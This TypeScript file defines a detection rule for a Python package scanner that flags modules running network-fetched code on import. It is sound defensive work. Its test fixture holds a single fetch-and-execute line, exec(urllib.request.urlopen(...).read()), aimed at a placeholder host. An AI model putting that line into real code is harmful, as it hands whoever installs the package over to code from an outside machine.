import { references } from "../references.ts";
import { type CodeCheck, codeCheck } from "./code-check.ts";

export const runsRemoteCode: CodeCheck = codeCheck({
  id: "code/runs-remote-code",
  title: "Code runs that comes from the network",
  severity: "high",
  confidence: "certain",
  runsAt: "import",
  explanation: `
    What runs is whatever the other side sends that day, to that person. It was never part of the release, so no digest,
    no review and no attestation says anything about it, and pip and uv can verify the distribution as often as they like.`,
  remedy: "Do not install it, unless you trust the other machine with everything that the code can reach.",
  references: [references.backEnds],
  fixtures: {
    reported: {
      filename: "distant-1.0-py3-none-any.whl",
      files: {
        "distant.py": 'import urllib.request\n\nexec(urllib.request.urlopen("https://example.invalid/a").read())\n',
      },
    },
    clean: {
      filename: "distant-1.0-py3-none-any.whl",
      files: {
        "distant.py":
          'import urllib.request\n\n\ndef text():\n    return urllib.request.urlopen("https://example.invalid/a").read()\n',
      },
    },
    alsoReported: ["code/contacts-network"],
  },

  rate(effect) {
    return effect.capability === "exec.remote" ? (effect.trigger === "test" ? "medium" : "high") : null;
  },
  say(effect) {
    const [from] = [...effect.names.urls, ...effect.names.hosts];
    return `${effect.callee} runs what ${from ?? "another machine"} sends.`;
  },
});
